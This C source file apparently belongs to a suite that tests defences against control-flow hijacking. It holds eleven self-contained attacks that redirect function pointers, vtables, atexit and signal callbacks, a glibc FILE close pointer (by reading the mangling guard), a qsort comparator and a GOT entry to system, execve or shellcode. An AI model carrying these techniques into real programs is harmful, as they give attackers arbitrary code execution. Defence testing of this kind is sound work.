// Overwritten pointers, with a stack that stays genuine from the first frame to the last: attacks 16 and 17, and callbacks that were
// registered while the process was corrupted and run later.
#include "hijack.h"
#include <elf.h>
#include <signal.h>
#include <sys/stat.h>

static word function(const char *name) { return need(symbol(name), name); }

// The attack is one write to the job, which lies in the stack; then the attack's function returns, and work() goes on.
void corrupt(word target, word first, word second, word third) {
  current_job->finish = (long (*)(word, word, word))target;
  current_job->first = first;
  current_job->second = second;
  current_job->third = third;
}

static void pointer_system(void) { corrupt(function("system"), (word)mark_line, 0, 0); }

static void pointer_execve(void) { corrupt(execve_entry(), (word)mark_argv[0], (word)mark_argv, 0); }

// execl is a function that the program itself imports, so a pointer to it is nothing strange. Without more arguments it starts a script.
static void pointer_imported(void) {
  static char path[512];
  snprintf(path, sizeof path, "%s.script", mark_path);
  FILE *script = fopen(path, "w");
  if (!script) impossible("no script can be written");
  fprintf(script, "#!/bin/sh\n%s\n", mark_line);
  fclose(script);
  chmod(path, 0755);
  corrupt(function("execl"), (word)path, (word)path, 0);
}

// each() goes through a table of two: mprotect, and then what has become code.
static void pointer_mprotect(void) {
  static void (*table[2])(word, word, word);
  table[0] = (void (*)(word, word, word))function("mprotect");
  table[1] = (void (*)(word, word, word))(word)shellcode;
  corrupt(0, SHELLCODE_PAGES, SHELLCODE_SIZE, PROT_READ | PROT_WRITE | PROT_EXEC);
  current_job->table = table;
  current_job->count = 2;
}

// A table of functions, as an object's class has it, replaced by another: its function is one that does make the call.
static void vtable(void) { corrupt((word)launch, (word)mark_argv[0], (word)mark_line, 0); }

// MARK: Callbacks

// __cxa_atexit itself is called through the pointer: what it keeps is mangled as it should be.
static void atexit_system(void) { corrupt(function("__cxa_atexit"), function("system"), (word)mark_line, 0); }

static void atexit_restart(void) {
  restart_line = mark_line;
  corrupt(function("__cxa_atexit"), (word)restart, 0, 0);
}

// A signal handler, and then the signal: the frame that it leaves is the kernel's own.
static void handler(void) {
  restart_line = mark_line;
  signal(SIGUSR1, (void (*)(int))(word)restart);
  corrupt(function("raise"), SIGUSR1, 0, 0);
}

static int close_nothing(void *cookie) {
  (void)cookie;
  return 0;
}

// A FILE's function to close it, in the heap: glibc keeps it mangled by a secret that lies at fs:0x30.
static void file_close(void) {
  static char cookie[] = "cookie";
  FILE *file = fopencookie(cookie, "w", (cookie_io_functions_t){.close = close_nothing});
  if (!file) impossible("no fopencookie()");
  word guard, found = 0;
  __asm__("mov %%fs:0x30, %0" : "=r"(guard));
  word plain = (word)close_nothing, mangled = (plain ^ guard) << 17 | (plain ^ guard) >> 47;
  word target = function("system"), mangled_target = (target ^ guard) << 17 | (target ^ guard) >> 47;
  for (word *at = (word *)file; at < (word *)file + 160; at++) {
    if (*at == (word)cookie) *at = (word)mark_line;
    if (*at == plain) *at = target, found = 1;
    if (*at == mangled) *at = mangled_target, found = 1;
  }
  if (!found) impossible("no pointer to the function in the FILE");
  corrupt(function("fclose"), (word)file, 0, 0);
}

static int compare(const void *one, const void *other) { return memcmp(one, other, 8); }
static int (*volatile comparator)(const void *, const void *) = compare;

// The program sorts, by a function that a variable of its own points to.
static void sort_comparator(void) {
  static char lines[2][512];
  snprintf(lines[0], sizeof lines[0], "%s", mark_line);
  snprintf(lines[1], sizeof lines[1], "%s", mark_line);
  comparator = (int (*)(const void *, const void *))function("system");
  qsort(lines, 2, sizeof lines[0], comparator);
}

// MARK: The global offset table

// Where the program's own relocation for `name` has its address kept.
static word *offset_table_slot(const char *name) {
  size_t size, unused;
  word end, code = program_code(&end);
  const Elf64_Rela *relocations = (const Elf64_Rela *)section_of(code, ".rela.plt", &size);
  const Elf64_Sym *symbols = (const Elf64_Sym *)section_of(code, ".dynsym", &unused);
  const char *strings = (const char *)section_of(code, ".dynstr", &unused);
  if (!relocations || !symbols || !strings) impossible("a static program has no such table");
  for (size_t n = 0; n < size / sizeof *relocations; n++) {
    const Elf64_Sym *wanted = &symbols[ELF64_R_SYM(relocations[n].r_info)];
    if (!strcmp(strings + wanted->st_name, name)) return (word *)(program_base() + relocations[n].r_offset);
  }
  impossible("%s is not called through the table", name);
}

// report() calls puts: a direct call, through the PLT.
static void offset_table(void) {
  *offset_table_slot("puts") = function("system");
  report(mark_line);
}

const struct attack pointer_attacks[] = {
    {"pointer-system", pointer_system},
    {"pointer-execve", pointer_execve},
    {"pointer-imported", pointer_imported},
    {"pointer-mprotect", pointer_mprotect},
    {"vtable", vtable},
    {"atexit-system", atexit_system},
    {"atexit-restart", atexit_restart},
    {"handler", handler},
    {"file-close", file_close},
    {"sort-comparator", sort_comparator},
    {"offset-table", offset_table},
    {NULL, NULL},
};
